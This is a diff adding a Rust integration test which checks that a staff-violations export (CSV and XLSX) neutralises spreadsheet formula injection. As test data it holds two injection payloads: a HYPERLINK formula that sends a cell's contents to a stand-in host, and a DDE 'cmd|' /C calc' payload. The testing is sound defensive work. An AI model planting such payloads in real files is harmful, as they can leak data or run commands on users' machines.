@@ -324,6 +324,50 @@ async fn the_violations_export_lists_only_the_callers_scope(app: TestApp) {
     assert_eq!(records[1][7], "Nhắc nhở");
 }
 
+/// A staff member named like a spreadsheet formula, with a violation described like one:
+/// in CSV both cells start with `'` (opened in a spreadsheet they show as text and run
+/// nothing), in XLSX both are strings, never formulas.
+async fn names_that_look_like_formulas_are_exported_as_text(app: TestApp) {
+    const NAME: &str = "=HYPERLINK(\"http://x.example/?\"&B2,\"Bấm vào đây\")";
+    const DESCRIPTION: &str = "-2+3+cmd|' /C calc'!A0";
+    let created = app
+        .as_user(
+            "admin",
+            "mutation($u: ID!, $n: String!) { createStaff(input: {unitId: $u, fullName: $n, position: \"Chuyên viên\"}) { id } }",
+            json!({"u": app.tree.commune.to_string(), "n": NAME}),
+        )
+        .await;
+    assert_ok(&created);
+    let staff = created["data"]["createStaff"]["id"].clone();
+    assert_ok(&app.as_user(
+        "admin",
+        "mutation($u: ID!, $s: ID!, $d: String!) { recordViolation(input: {unitId: $u, staffId: $s, occurredOn: \"2023-03-01\", kind: DELAY, description: $d}) { id } }",
+        json!({"u": app.tree.commune.to_string(), "s": staff, "d": DESCRIPTION}),
+    )
+    .await);
+
+    let c = download(
+        &app,
+        Some("admin"),
+        "/export/violations?year=2023&format=csv",
+    )
+    .await;
+    let records = c.csv();
+    assert_eq!(records[0][3], "Cán bộ");
+    assert_eq!(records[1][3], format!("'{NAME}"));
+    assert_eq!(records[1][5], format!("'{DESCRIPTION}"));
+    let raw = String::from_utf8_lossy(&c.bytes).into_owned();
+    assert!(raw.contains("\"'=HYPERLINK("), "{raw}");
+
+    let x = download(&app, Some("admin"), "/export/violations?year=2023").await;
+    let rows = x.sheet("Vi phạm");
+    assert_eq!(rows[1][3], Data::String(NAME.to_owned()));
+    assert_eq!(rows[1][5], Data::String(DESCRIPTION.to_owned()));
+    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(x.bytes.clone())).expect("XLSX");
+    let formulas = book.worksheet_formula("Vi phạm").expect("formulas");
+    assert!(formulas.used_cells().next().is_none(), "{formulas:?}");
+}
+
 async fn an_officer_exports_only_what_its_scope_shows(app: TestApp) {
     arrange(&app).await;
     let other = app.tree.other_commune;
@@ -401,4 +445,5 @@ both_databases!(
     the_violations_export_lists_only_the_callers_scope,
     an_officer_exports_only_what_its_scope_shows,
     exports_need_a_valid_token_and_valid_parameters,
+    names_that_look_like_formulas_are_exported_as_text,
 );
